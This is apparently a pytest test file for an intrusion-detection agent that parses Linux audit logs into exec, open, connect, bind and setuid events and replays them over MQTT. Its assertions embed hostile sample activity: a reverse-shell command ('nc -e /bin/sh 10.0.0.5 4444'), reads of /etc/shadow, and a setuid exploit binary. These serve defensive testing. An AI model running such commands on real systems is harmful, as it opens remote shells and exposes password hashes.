"""Audit records to events: the parser, the grouping, and `immune replay`."""

from __future__ import annotations

import asyncio
from pathlib import Path

import aiomqtt
import orjson
import pytest
from typer.testing import CliRunner

from immune.agent.auditlog import (
    Assembler,
    AuditFormatError,
    argv_of,
    parse_fields,
    parse_line,
    read_log,
    sockaddr,
    value,
)
from immune.cli import app
from immune.events import decode_batch

SAMPLE = Path(__file__).parent / "data" / "audit-sample.log"


def sample_events() -> dict[int, object]:
    errors: list[str] = []
    # Not splitlines(): it also splits at the \x1d of enriched records.
    lines = SAMPLE.read_text().split("\n")
    events = list(read_log(lines, Assembler(agent_id="r", host="h"), errors))
    assert errors == [
        "line 20: not an audit record (no type=... msg=audit(...) header): "
        "'this line was pasted by mistake'"
    ]
    return {e.extra["audit_serial"]: e for e in events}  # type: ignore[index]


def test_parse_line_reads_header_and_fields() -> None:
    record = parse_line(
        'node=h1 type=CWD msg=audit(1764770001.120:301): cwd="/root"\x1dX="y"'
    )
    assert (record.type, record.serial, record.node) == ("CWD", 301, "h1")
    assert record.ts == 1764770001_120_000_000
    assert record.fields == {"cwd": '"/root"'}


def test_parse_line_refuses_other_text() -> None:
    with pytest.raises(AuditFormatError, match="not an audit record"):
        parse_line("Dec  3 12:00:00 host sshd[1]: Accepted password")


def test_values_quoted_hex_and_null() -> None:
    assert value('"a b"') == "a b"
    assert value("2F746D70") == "/tmp"
    assert value("(null)") is None
    assert value("123", encoded=False) == "123"


def test_split_execve_arguments_are_joined() -> None:
    fields = parse_fields('argc=2 a0="x" a1_len=6 a1[0]=616263 a1[1]=646566')
    assert argv_of(fields) == ["x", "abcdef"]


def test_sockaddr_of_both_families_and_garbage() -> None:
    assert sockaddr("0200115C7F0000010000000000000000") == ("127.0.0.1", 4444, "inet")
    v6 = "0A0001BB0000000020010DB800000000000000000000000100000000"
    assert sockaddr(v6) == ("2001:db8::1", 443, "inet6")
    assert sockaddr("01002F746D70") is None  # AF_UNIX
    assert sockaddr("zz") is None


def test_sample_exec_groups_records_by_serial() -> None:
    events = sample_events()
    cat = events[301]
    assert (cat.kind, cat.pid, cat.ppid, cat.uid) == ("exec", 1902, 1871, 0)
    assert (cat.exe, cat.argv, cat.cwd) == (
        "/usr/bin/cat",
        ["cat", "/etc/shadow"],
        "/root",
    )
    assert cat.extra["auid"] == 1000 and cat.extra["key"] == "immune-exec"
    # Records of 310 and 311 are interleaved in the file.
    shell = events[310]
    assert shell.argv == ["sh", "-c", "nc -e /bin/sh 10.0.0.5 4444"]
    assert shell.cwd == "/home/alice"


def test_sample_open_connect_bind_setuid() -> None:
    events = sample_events()
    assert (events[302].kind, events[302].path) == ("open", "/etc/shadow")
    nc = events[311]
    assert (nc.kind, nc.addr, nc.port, nc.family, nc.exe) == (
        "connect",
        "127.0.0.1",
        4444,
        "inet",
        "/usr/bin/nc.openbsd",
    )
    bind = events[320]
    assert (bind.kind, bind.addr, bind.port, bind.uid) == ("bind", "0.0.0.0", 8888, 33)
    assert "auid" not in bind.extra  # 4294967295: never logged in
    setuid = events[330]
    assert (setuid.kind, setuid.euid, setuid.exe) == ("setuid", 0, "/tmp/.x/exploit")


def test_sample_refused_exec_names_the_program_not_the_caller() -> None:
    refused = sample_events()[331]
    assert (refused.outcome, refused.exe, refused.path) == (
        "blocked",
        "/tmp/dropper",
        "/tmp/dropper",
    )
    assert refused.extra["caller_exe"] == "/usr/bin/bash"


def test_sample_node_and_eoe() -> None:
    curl = sample_events()[350]
    assert (curl.host, curl.addr, curl.port) == ("web01", "2001:db8::1", 443)
    assert len(sample_events()) == 9  # DAEMON_START is no call


def test_eoe_completes_a_group_at_once() -> None:
    assembler = Assembler(agent_id="r", host="h")
    head = "type=SYSCALL msg=audit(1.000:5): arch=c000003e syscall=49 pid=9 exit=0"
    assert list(assembler.add(parse_line(head))) == []
    (event,) = assembler.add(parse_line("type=EOE msg=audit(1.000:5): "))
    assert (event.kind, event.pid) == ("bind", 9)
    assert not assembler.pending


def test_pending_groups_are_bounded() -> None:
    assembler = Assembler(agent_id="r", host="h", max_pending=2)
    done = []
    for serial in range(5):
        line = f"type=SYSCALL msg=audit(1.000:{serial}): syscall=49 pid={serial}"
        done += list(assembler.add(parse_line(line)))
    assert [e.pid for e in done] == [0, 1, 2]
    assert len(assembler.pending) == 2


# --- immune replay ---------------------------------------------------------------


def test_replay_json_prints_the_events() -> None:
    result = CliRunner().invoke(app, ["replay", "--json", str(SAMPLE)])
    assert result.exit_code == 0, result.output
    rows = [
        orjson.loads(line) for line in result.stdout.splitlines() if line[:1] == "{"
    ]
    assert len(rows) == 9
    assert {r["kind"] for r in rows} == {"exec", "open", "connect", "bind", "setuid"}


def test_replay_of_a_file_without_records_fails_clearly(tmp_path: Path) -> None:
    junk = tmp_path / "junk.log"
    junk.write_text("hello\nworld\n")
    result = CliRunner().invoke(app, ["replay", "--json", str(junk)])
    assert result.exit_code == 1
    assert isinstance(result.exception, Exception)
    assert "holds no audit records" in str(result.exception)


def test_replay_bad_agent_id_is_refused() -> None:
    result = CliRunner().invoke(app, ["replay", "--agent-id", "a/b", str(SAMPLE)])
    assert "--agent-id 'a/b'" in str(result.exception)


@pytest.mark.mqtt
async def test_replay_publishes_to_the_hive_topic(
    mqtt_broker: str, mqtt_prefix: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("IMMUNE_MQTT__URL", mqtt_broker)
    monkeypatch.setenv("IMMUNE_MQTT__TOPIC_PREFIX", mqtt_prefix)
    host, port = mqtt_broker.removeprefix("mqtt://").split(":")
    topic = f"{mqtt_prefix}/agents/replayed/events"
    async with aiomqtt.Client(host, int(port)) as client:
        await client.subscribe(topic, qos=1)
        result = await asyncio.to_thread(
            CliRunner().invoke, app, ["replay", "--agent-id", "replayed", str(SAMPLE)]
        )
        assert result.exit_code == 0, result.output
        assert "9 events sent as agent replayed" in result.output
        async with asyncio.timeout(10):
            message = await anext(aiter(client.messages))
    events, bad = decode_batch(
        bytes(message.payload), max_bytes=1 << 20, agent_id="replayed"
    )
    assert bad == [] and len(events) == 9


def test_replay_refuses_what_the_hive_would_with_the_reason(tmp_path: Path) -> None:
    log = tmp_path / "audit.log"
    comm = "x" * 300  # longer than an event's comm may be
    log.write_text(
        "type=SYSCALL msg=audit(1.000:7): arch=c000003e syscall=49 success=yes "
        f'exit=0 pid=5 comm="{comm}"\n'
        "type=SYSCALL msg=audit(1.000:8): arch=c000003e syscall=49 success=yes "
        "exit=0 pid=6\n"
    )
    result = CliRunner().invoke(app, ["replay", "--json", str(log)])
    assert result.exit_code == 0, result.output
    rows = [
        orjson.loads(line) for line in result.stdout.splitlines() if line[:1] == "{"
    ]
    assert [r["pid"] for r in rows] == [6]
    assert "audit event 7: Expected `str` of length <= 256" in result.output
    assert "1 events printed" in result.output and "; 1 skipped." in result.output


def test_long_execve_arguments_are_cut_to_what_an_event_holds() -> None:
    fields = parse_fields(f'argc=1 a0="{"y" * 5000}"')
    assert argv_of(fields) == ["y" * 4096]
